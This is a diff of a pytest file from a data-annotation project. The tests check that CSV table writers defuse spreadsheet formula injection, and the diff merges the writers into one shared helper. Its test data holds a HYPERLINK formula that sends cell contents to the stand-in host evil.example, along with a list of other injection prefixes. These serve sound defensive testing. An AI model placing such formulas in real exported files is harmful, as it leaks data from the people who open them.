@@ -12,12 +12,11 @@ from conftest import REPOSITORY
 
 from agreement.report.csv.report import _table
 from annotator.checks import report as checking_output
-from annotator.cli.prelabel import output
-from annotator.gold import flags
+from panelwise.files.csv_safe import csv_text
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'
 NASTY = (FORMULA, "+1", "-1", "@x", "\t=1", "\r=1", "\n=1", " =1", "\ufeff=1", "\uff1d1", '=1"\n=2', "a,=1")
-PACKAGES = ("annotator", "agreement", "prelabel", "label_config")
+PACKAGES = ("annotator", "agreement", "panelwise", "prelabel", "label_config")
 
 
 def cells(table: str) -> list[str]:
@@ -30,13 +29,7 @@ def harmless(table: str) -> bool:
 
 @pytest.mark.parametrize("text", NASTY)
 def test_no_writer_of_tables_lets_a_formula_out(text: str) -> None:
-    record = dict.fromkeys(flags.COLUMNS, text)
-    made = (
-        flags.csv_text([record]),
-        _table(("figure",), [(text,)]),
-        output.csv_text(["figure"], [{"figure": text}]),
-    )
-    for table in made:
+    for table in (_table(("figure",), [(text,)]), csv_text(["figure"], [{"figure": text}])):
         assert harmless(table), table
         assert any(cell.endswith(text.lstrip("'")) for cell in cells(table)), "the text itself stays"
 
@@ -62,6 +55,6 @@ def writers() -> set[str]:
 
 def test_whatever_writes_tables_makes_texts_of_its_cells() -> None:
     there = writers()
-    assert len(there) >= 4
+    assert len(there) == 2
     for module in there:
         assert "as_text(" in (REPOSITORY / Path(module)).read_text(encoding="utf-8"), module
